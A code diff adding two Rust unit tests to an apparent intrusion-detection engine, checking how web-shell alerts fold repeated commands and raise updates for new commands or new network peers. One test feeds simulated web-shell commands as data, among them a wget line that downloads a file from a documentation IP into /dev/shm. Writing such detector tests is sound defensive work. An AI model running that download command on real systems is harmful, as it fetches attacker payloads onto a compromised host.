@@ -697,6 +697,82 @@ fn repeats_fold_into_one_alert_with_a_count() {
     assert_eq!(fired(&mut e, &[later]), ["EW-PROC-003"]);
 }
 
+/// A second, different command injected through the same service while
+/// its alert is open is written at once as an update, with the new command
+/// and the alert's id and count; the same command again only counts.
+#[test]
+fn a_new_command_in_an_open_alert_is_an_update_and_the_same_one_folds() {
+    let mut e = builtin();
+    web_server(&mut e);
+    let chain = [WORKER, NGINX, INIT];
+    let sh = |t, pid, cmd: &str| exec(t, pid, "/bin/busybox", &["sh", "-c", cmd], &chain);
+    let first = e.take(&sh(1, 200, "id"));
+    let alert = first
+        .iter()
+        .find(|a| a.rule == "EW-PROC-001")
+        .expect("web shell alert");
+    assert!(!alert.update);
+    // The same command again: counted, no line.
+    assert!(e
+        .take(&sh(2, 201, "id"))
+        .iter()
+        .all(|a| a.rule != "EW-PROC-001"));
+    // Another command: an update line of the same alert.
+    let second = e.take(&sh(3, 202, "wget http://198.51.100.7/x -O /dev/shm/x"));
+    let update = second
+        .iter()
+        .find(|a| a.rule == "EW-PROC-001")
+        .expect("an update for the new command");
+    assert!(update.update);
+    assert_eq!(update.alert_id, alert.alert_id);
+    assert_eq!(update.count, 3);
+    assert_eq!(update.process["pid"], 202);
+    assert_eq!(update.evidence.len(), 1);
+    assert_eq!(
+        update.evidence[0]["argv"][2],
+        "wget http://198.51.100.7/x -O /dev/shm/x"
+    );
+    // And that one again folds too.
+    let again = e.take(&sh(4, 203, "wget http://198.51.100.7/x -O /dev/shm/x"));
+    assert!(again.iter().all(|a| a.rule != "EW-PROC-001"));
+    let flushed = e.flush();
+    let closing = flushed
+        .iter()
+        .find(|a| a.rule == "EW-PROC-001")
+        .expect("closing line");
+    assert!(closing.repeat && !closing.update);
+    assert_eq!(closing.count, 4);
+}
+
+/// Connections of one process to another peer are new evidence; to the
+/// same peer they fold.
+#[test]
+fn a_new_peer_is_new_evidence() {
+    let rules = rule::parse(&Source {
+        name: "t.toml",
+        text: r#"
+[[rule]]
+id = "T-1"
+title = "t"
+severity = "low"
+kinds = ["connect_result"]
+match = [{ field = "result", equals = "established" }]
+"#,
+    })
+    .expect("rule");
+    let mut e = Engine::new(rules);
+    let conn = |t, port: u16| {
+        let mut v = net(t, "connect_result", 300, "/usr/bin/curl", &[INIT], 40000);
+        v["remote"]["port"] = port.into();
+        v
+    };
+    assert_eq!(e.take(&conn(1, 443)).len(), 1);
+    assert!(e.take(&conn(2, 443)).is_empty(), "same peer folds");
+    let update = e.take(&conn(3, 8443));
+    assert_eq!(update.len(), 1);
+    assert!(update[0].update);
+}
+
 #[test]
 fn rate_limits_count_what_they_hold_back() {
     let text = r#"
